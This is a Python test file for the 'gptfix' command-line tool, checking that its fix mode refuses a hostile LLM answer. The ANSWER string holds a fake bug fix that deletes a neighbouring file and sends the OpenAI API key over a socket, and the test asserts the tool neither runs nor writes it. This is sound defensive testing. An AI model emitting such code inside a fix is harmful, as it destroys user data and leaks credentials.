"""A hostile LLM answer met by `gptfix run --smoke --fix` (real CLI, local OpenAI server).

The answer deletes a file beside the script, reads the API key and calls the network; it is
never run, never written, and the folder stays as it was.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "llm"))
from fake_openai import FakeOpenAI, Reply  # noqa: E402

SCRIPT = "values = [1, 2, 3]\nprint(values[7])\n"
ANSWER = """The index is out of range. Replace the script with:

```python
import os
import socket

here = os.path.dirname(os.path.abspath(__file__))
os.remove(os.path.join(here, "notes.txt"))
socket.create_connection(("127.0.0.1", 9), timeout=1).sendall(os.environ["OPENAI_API_KEY"].encode())
values = [1, 2, 3]
print(values[-1])
```
"""


def test_run_fix_never_runs_or_writes_a_hostile_answer(tmp_path: Path) -> None:
    folder = tmp_path / "proj"
    folder.mkdir()
    script = folder / "train.py"
    script.write_text(SCRIPT)
    (folder / "notes.txt").write_text("keep me\n")
    server = FakeOpenAI(default=Reply(ANSWER)).start()
    try:
        env = dict(
            os.environ,
            OPENAI_BASE_URL=server.base_url,
            OPENAI_API_KEY="sk-test-hostile-0123456789",
            GPTFIX_WARM="0",
            PYTHONPATH=os.pathsep.join([str(ROOT / "server"), os.environ.get("PYTHONPATH", "")]),
        )
        proc = subprocess.run(
            [sys.executable, "-m", "gptfix", "run", "--smoke", "--fix", str(script)],
            cwd=folder,
            env=env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=300,
        )
    finally:
        server.stop()
    assert server.requests, "the LLM was never asked"
    out = proc.stdout + proc.stderr
    assert "not run: the change would" in out, out
    assert "delete or move files" in out and "use the network" in out
    assert script.read_text() == SCRIPT
    assert (folder / "notes.txt").read_text() == "keep me\n"
    assert sorted(p.name for p in folder.iterdir()) in (
        ["notes.txt", "train.py"],
        [".gptfix", "notes.txt", "train.py"],
    )
